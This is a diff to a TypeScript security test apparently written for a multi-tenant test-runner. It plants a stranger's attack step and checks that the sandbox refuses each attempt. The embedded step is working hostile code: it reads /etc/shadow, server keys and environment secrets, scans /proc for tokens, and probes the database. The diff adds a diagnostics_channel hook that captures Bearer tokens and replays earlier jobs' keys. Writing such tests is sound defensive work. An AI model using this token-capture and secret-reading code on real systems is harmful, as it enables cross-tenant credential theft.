@@ -21,7 +21,9 @@ import { signUp, startTestApp, type TestApp } from '../testing/test-app.js';
 // workspace, /etc/shadow and the worker token, and to write outside its folder; it runs through
 // "Run scenario" and through an execution on a local worker. Every attempt must fail, and the run
 // report shows what the step got. A leaked worker token replayed against another project's test
-// data is refused.
+// data is refused. On a warm runner (issue 21) the step shares a long-lived process with the
+// runner: no key is in its environment, so it captures the key the runner's own calls carry, keeps
+// its hook across clicks, and tries the keys of earlier jobs too.
 
 const CANARY_SMTP = 'smtp://canary-user:canary-smtp-password@mail.invalid:25';
 const CANARY_AI = 'canary-ai-api-key';
@@ -30,6 +32,7 @@ const HOST_FILE = path.join(tmpdir(), `rehearse-escape-${process.pid}.txt`);
 /** The attacker's step: every attempt, then a failure whose message lists what each one got. */
 function attackSteps(dataDir: string, victimProjectId: string, ownProjectId: string): string {
   return `import { Given } from '@cucumber/cucumber';
+import diagnostics from 'node:diagnostics_channel';
 import fs from 'node:fs';
 import net from 'node:net';
 
@@ -38,7 +41,19 @@ const VICTIM = ${JSON.stringify(victimProjectId)};
 const OWN = ${JSON.stringify(ownProjectId)};
 const got = (fn) => { try { const value = fn(); return 'GOT ' + String(value).slice(0, 80); } catch (error) { return error.code ?? error.message; } };
 
+// Every key the runner's own HTTP calls carry, seen from inside its process through Node's public
+// diagnostics channel; loaded once, the hook stays for every later click a warm runner serves.
+const state = (globalThis.__attack ??= { keys: [], runs: 0 });
+if (!state.hooked) {
+  state.hooked = true;
+  diagnostics.subscribe('undici:request:create', ({ request }) => {
+    const key = /Bearer ([^"\\s,]+)/.exec(JSON.stringify(request.headers))?.[1];
+    if (key && !state.keys.includes(key)) state.keys.push(key);
+  });
+}
+
 Given('I try to break out of the sandbox', async function () {
+  state.runs += 1;
   // Any process whose environment or command line holds a worker token or the server's canaries.
   let holders = 0;
   for (const pid of fs.readdirSync('/proc').filter((entry) => /^\\d+$/.test(entry))) {
@@ -47,10 +62,15 @@ Given('I try to break out of the sandbox', async function () {
     }
   }
   const server = process.argv[process.argv.indexOf('--server') + 1];
-  const call = async (url, init = {}) => {
-    const response = await fetch(server + url, { ...init, headers: { authorization: 'Bearer ' + process.env.REHEARSE_TOKEN, 'content-type': 'application/json' } });
+  // The job's key: from the environment when the run has one, else the latest one captured.
+  const key = process.env.REHEARSE_TOKEN ?? state.keys.at(-1);
+  const call = async (url, init = {}, withKey = key) => {
+    const response = await fetch(server + url, { ...init, headers: { authorization: 'Bearer ' + withKey, 'content-type': 'application/json' } });
     return response.status + ' ' + (await response.text()).slice(0, 160);
   };
+  const ownTestData = { method: 'POST', body: JSON.stringify({ projectId: OWN, environment: 'local' }) };
+  const earlierKeys = [];
+  for (const earlier of state.keys.filter((seen) => seen !== key)) earlierKeys.push((await call('/api/runs/test-data', ownTestData, earlier)).slice(0, 3));
   const results = {
     serverKey: got(() => fs.readFileSync(DATA + '/secret.key', 'utf8')),
     dataDir: got(() => fs.readdirSync(DATA).join(',')),
@@ -64,6 +84,10 @@ Given('I try to break out of the sandbox', async function () {
     writeDataDir: got(() => fs.writeFileSync(DATA + '/pwned.txt', 'x')),
     writeHostFile: got(() => fs.writeFileSync(${JSON.stringify(HOST_FILE)}, 'x')),
     writeUsr: got(() => fs.writeFileSync('/usr/pwned.txt', 'x')),
+    keySource: process.env.REHEARSE_TOKEN ? 'environment' : key ? 'captured' : 'none',
+    runsInThisProcess: state.runs,
+    earlierKeys: earlierKeys.join(','),
+    keyOnOwnRun: (await call('/api/runs/test-data', ownTestData)).slice(0, 3),
     keyOnOtherProject: await call('/api/runs/test-data', { method: 'POST', body: JSON.stringify({ projectId: VICTIM, environment: 'default' }) }),
     keyOnOtherCalls: await call('/api/workspace/testData?projectId=' + OWN + '&branch=main'),
     // The database on the host's loopback (PostgreSQL here trusts local connections).
@@ -86,107 +110,134 @@ Feature: Curious
 
 const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
 
+type Member = Awaited<ReturnType<typeof signUp>>;
+
+/** A server whose environment holds the canaries, a victim with a secret, and a stranger with the attack pushed. */
+async function startAttackedServer(
+  env: Record<string, string>,
+): Promise<{ test: TestApp; server: string; stranger: Member; victim: Member }> {
+  const test = await startTestApp('pglite', { ...env, SMTP_URL: CANARY_SMTP, AI_API_KEY: CANARY_AI });
+  // A default install keeps its generated key here.
+  await writeFile(path.join(test.settings.dataDir, 'secret.key'), 'canary-server-key\n', { mode: 0o600 });
+  await test.app.listen({ host: '127.0.0.1', port: 0 });
+  const server = `http://127.0.0.1:${(test.app.server.address() as AddressInfo).port}`;
+  const victim = await signUp(test, { email: 'victim@acme.test' });
+  await victim.api.call(ws.changeTestData, {
+    body: {
+      projectId: victim.projectId,
+      testData: [{ key: 'password', value: 'victim-plain-secret', DataType: 'secret', environment: '*' }],
+    },
+  });
+  const stranger = await signUp(test, { email: 'stranger@elsewhere.test' });
+  const { projectId } = stranger;
+  await stranger.api.call(ws.pushEnv, { body: { projectId, name: 'local', data: { baseUrl: `${server}/demo-shop/` } } });
+  await stranger.api.call(ws.pushFile, {
+    body: {
+      projectId,
+      directory: 'features/step_definitions',
+      file: { name: 'attack.mjs', content: attackSteps(test.settings.dataDir, victim.projectId, projectId) },
+    },
+  });
+  await stranger.api.call(ws.pushFile, {
+    body: { projectId, directory: 'features', file: { name: 'curious.feature', content: FEATURE } },
+  });
+  return { test, server, stranger, victim };
+}
+
+/** What the attack step reported, read back from the run report the way a user sees it. */
+async function attempts(stranger: Member, runId: string): Promise<Record<string, string | number>> {
+  const { run } = await stranger.api.call(runsCalls.getRun, { query: { runId } });
+  expect(run.status).toBe('FAILED');
+  const text = JSON.stringify(run.report);
+  const start = text.indexOf('ATTEMPTS ');
+  expect(start).toBeGreaterThan(-1);
+  // The message sits JSON-escaped inside the report; parse the escaped object back.
+  const escaped = /ATTEMPTS (\{.*?\})(?:\\n|")/.exec(text)?.[1];
+  return JSON.parse(JSON.parse(`"${escaped}"`)) as Record<string, string | number>;
+}
+
+function expectEveryAttemptRefused(test: TestApp, seen: Record<string, string | number>): void {
+  expect(seen).toMatchObject({
+    serverKey: 'ENOENT',
+    dataDir: 'ENOENT',
+    otherWorkspace: 'ENOENT',
+    shadow: 'ENOENT',
+    passwd: 'ENOENT',
+    smtpUrl: 'undefined',
+    aiApiKey: 'undefined',
+    workerToken: 'undefined',
+    processesHoldingSecrets: 0,
+    writeDataDir: 'ENOENT',
+    writeUsr: 'EROFS',
+    // The job has no network of its own: the host's loopback is not there at all.
+    databasePort: 'ECONNREFUSED',
+    // The key the step holds is the job's own, good for the calls its run makes...
+    keyOnOwnRun: '200',
+  });
+  // ...but another project's test data, and calls a run does not make, are refused.
+  expect(seen.keyOnOtherProject).toMatch(/^403 /);
+  expect(seen.keyOnOtherProject).toContain('This access key belongs to another project.');
+  expect(seen.keyOnOtherCalls).toMatch(/^403 /);
+  expect(seen.keyOnOtherCalls).toContain('This key belongs to a running job');
+  // A write "outside" lands in the job's own throwaway /tmp, never on the host.
+  expect(existsSync(HOST_FILE)).toBe(false);
+  expect(existsSync(path.join(test.settings.dataDir, 'pwned.txt'))).toBe(false);
+}
+
+/** "Run scenario" on the attack, as the stranger clicks it; the finished job. */
+async function runScenario(stranger: Member): Promise<ScenarioJob> {
+  const { job } = await stranger.api.call(scenarioJobCalls.runScenario, {
+    body: { projectId: stranger.projectId, featureName: 'curious', scenarioName: 'Break out', environment: 'local' },
+  });
+  let done: ScenarioJob = job;
+  for (let i = 0; i < 360 && (done.state === 'queued' || done.state === 'running'); i++) {
+    await sleep(500);
+    ({ job: done } = await stranger.api.call(scenarioJobCalls.scenarioJob, { params: { jobId: job.id } }));
+  }
+  return done;
+}
+
+/** The server's own environment holds the canaries while a test runs, as a real server's would. */
+function withCanariesInEnvironment(): void {
+  const saved = { SMTP_URL: process.env.SMTP_URL, AI_API_KEY: process.env.AI_API_KEY };
+  beforeAll(() => {
+    process.env.SMTP_URL = CANARY_SMTP;
+    process.env.AI_API_KEY = CANARY_AI;
+  });
+  afterAll(() => {
+    for (const [name, value] of Object.entries(saved)) {
+      if (value === undefined) delete process.env[name];
+      else process.env[name] = value;
+    }
+  });
+}
+
 describe('tenant code from a stranger stays in its sandbox', () => {
   let test: TestApp;
   let server: string;
-  let stranger: Awaited<ReturnType<typeof signUp>>;
-  let victim: Awaited<ReturnType<typeof signUp>>;
-  const saved = { SMTP_URL: process.env.SMTP_URL, AI_API_KEY: process.env.AI_API_KEY };
+  let stranger: Member;
+  let victim: Member;
+  withCanariesInEnvironment();
 
   beforeAll(async () => {
-    // The server's own environment holds the canaries, as a real server's would.
-    process.env.SMTP_URL = CANARY_SMTP;
-    process.env.AI_API_KEY = CANARY_AI;
-    test = await startTestApp('pglite', {
+    ({ test, server, stranger, victim } = await startAttackedServer({
       WORKER_PROCESSES: '1',
+      WARM_RUNNERS: 'false',
       LOCAL_WORKERS: '1',
       LOCAL_WORKER_THREADS: '1',
-      SMTP_URL: CANARY_SMTP,
-      AI_API_KEY: CANARY_AI,
-    });
-    // A default install keeps its generated key here.
-    await writeFile(path.join(test.settings.dataDir, 'secret.key'), 'canary-server-key\n', { mode: 0o600 });
-    await test.app.listen({ host: '127.0.0.1', port: 0 });
-    server = `http://127.0.0.1:${(test.app.server.address() as AddressInfo).port}`;
-    victim = await signUp(test, { email: 'victim@acme.test' });
-    await victim.api.call(ws.changeTestData, {
-      body: {
-        projectId: victim.projectId,
-        testData: [{ key: 'password', value: 'victim-plain-secret', DataType: 'secret', environment: '*' }],
-      },
-    });
-    stranger = await signUp(test, { email: 'stranger@elsewhere.test' });
-    const { projectId } = stranger;
-    await stranger.api.call(ws.pushEnv, { body: { projectId, name: 'local', data: { baseUrl: `${server}/demo-shop/` } } });
-    await stranger.api.call(ws.pushFile, {
-      body: {
-        projectId,
-        directory: 'features/step_definitions',
-        file: { name: 'attack.mjs', content: attackSteps(test.settings.dataDir, victim.projectId, projectId) },
-      },
-    });
-    await stranger.api.call(ws.pushFile, {
-      body: { projectId, directory: 'features', file: { name: 'curious.feature', content: FEATURE } },
-    });
+    }));
   }, 120_000);
 
   afterAll(async () => {
-    process.env.SMTP_URL = saved.SMTP_URL;
-    process.env.AI_API_KEY = saved.AI_API_KEY;
-    if (saved.SMTP_URL === undefined) delete process.env.SMTP_URL;
-    if (saved.AI_API_KEY === undefined) delete process.env.AI_API_KEY;
     await test?.close();
   });
 
-  /** What the attack step reported, read back from the run report the way a user sees it. */
-  async function attempts(runId: string): Promise<Record<string, string | number>> {
-    const { run } = await stranger.api.call(runsCalls.getRun, { query: { runId } });
-    expect(run.status).toBe('FAILED');
-    const text = JSON.stringify(run.report);
-    const start = text.indexOf('ATTEMPTS ');
-    expect(start).toBeGreaterThan(-1);
-    // The message sits JSON-escaped inside the report; parse the escaped object back.
-    const escaped = /ATTEMPTS (\{.*?\})(?:\\n|")/.exec(text)?.[1];
-    return JSON.parse(JSON.parse(`"${escaped}"`)) as Record<string, string | number>;
-  }
-
-  function expectEveryAttemptRefused(seen: Record<string, string | number>): void {
-    expect(seen).toMatchObject({
-      serverKey: 'ENOENT',
-      dataDir: 'ENOENT',
-      otherWorkspace: 'ENOENT',
-      shadow: 'ENOENT',
-      passwd: 'ENOENT',
-      smtpUrl: 'undefined',
-      aiApiKey: 'undefined',
-      workerToken: 'undefined',
-      processesHoldingSecrets: 0,
-      writeDataDir: 'ENOENT',
-      writeUsr: 'EROFS',
-      // The job has no network of its own: the host's loopback is not there at all.
-      databasePort: 'ECONNREFUSED',
-    });
-    // The job's key: another project's test data, and calls a run does not make, are refused.
-    expect(seen.keyOnOtherProject).toMatch(/^403 /);
-    expect(seen.keyOnOtherProject).toContain('This access key belongs to another project.');
-    expect(seen.keyOnOtherCalls).toMatch(/^403 /);
-    expect(seen.keyOnOtherCalls).toContain('This key belongs to a running job');
-    // A write "outside" lands in the job's own throwaway /tmp, never on the host.
-    expect(existsSync(HOST_FILE)).toBe(false);
-    expect(existsSync(path.join(test.settings.dataDir, 'pwned.txt'))).toBe(false);
-  }
-
-  it('through Run scenario', { timeout: 240_000 }, async () => {
-    const { job } = await stranger.api.call(scenarioJobCalls.runScenario, {
-      body: { projectId: stranger.projectId, featureName: 'curious', scenarioName: 'Break out', environment: 'local' },
-    });
-    let done: ScenarioJob = job;
-    for (let i = 0; i < 360 && (done.state === 'queued' || done.state === 'running'); i++) {
-      await sleep(500);
-      ({ job: done } = await stranger.api.call(scenarioJobCalls.scenarioJob, { params: { jobId: job.id } }));
-    }
+  it('through Run scenario, started afresh for the click', { timeout: 240_000 }, async () => {
+    const done = await runScenario(stranger);
     expect(done.state).toBe('failed');
-    expectEveryAttemptRefused(await attempts(done.runId!));
+    const seen = await attempts(stranger, done.runId!);
+    expect(seen.keySource).toBe('environment');
+    expectEveryAttemptRefused(test, seen);
   });
 
   it('through an execution on a local worker', { timeout: 240_000 }, async () => {
@@ -204,7 +255,7 @@ describe('tenant code from a stranger stays in its sandbox', () => {
       await sleep(500);
     }
     expect(await test.services.engine.status(execution.id)).toMatchObject({ running: false, scenariosFailed: 1 });
-    expectEveryAttemptRefused(await attempts(runId));
+    expectEveryAttemptRefused(test, await attempts(stranger, runId));
   });
 
   it('a leaked worker token cannot read any project’s test data', async () => {
@@ -221,5 +272,37 @@ describe('tenant code from a stranger stays in its sandbox', () => {
     expect((masked as ApiError).httpStatus).toBe(401);
     // Its claims hand out only job keys: with nothing queued there is nothing to claim.
     expect((await leaked.call(workerCalls.claim, { body: { workerId: 'leaked-token-test', waitMs: 0 } })).job).toBeNull();
+  });
+});
+
+describe('tenant code from a stranger on a warm runner', () => {
+  let test: TestApp;
+  let stranger: Member;
+  withCanariesInEnvironment();
+
+  beforeAll(async () => {
+    ({ test, stranger } = await startAttackedServer({ WORKER_PROCESSES: '1', WARM_RUNNERS: 'true', LOCAL_WORKERS: '0' }));
+  }, 120_000);
+
+  afterAll(async () => {
+    await test?.close();
+  });
+
+  it('captures the job key inside the runner, and it opens nothing beyond its own run', { timeout: 240_000 }, async () => {
+    const done = await runScenario(stranger);
+    expect(done.state).toBe('failed');
+    const seen = await attempts(stranger, done.runId!);
+    // No key in the environment: the one tried is the one the runner's own calls carried.
+    expect(seen).toMatchObject({ keySource: 'captured', runsInThisProcess: 1 });
+    expectEveryAttemptRefused(test, seen);
+  });
+
+  it('keeps its hook for the next click, where the earlier job’s key is dead', { timeout: 240_000 }, async () => {
+    const done = await runScenario(stranger);
+    expect(done.state).toBe('failed');
+    const seen = await attempts(stranger, done.runId!);
+    // The same process served both clicks (it is warm), and held two keys: the first one is refused.
+    expect(seen).toMatchObject({ keySource: 'captured', runsInThisProcess: 2, earlierKeys: '401' });
+    expectEveryAttemptRefused(test, seen);
   });
 });
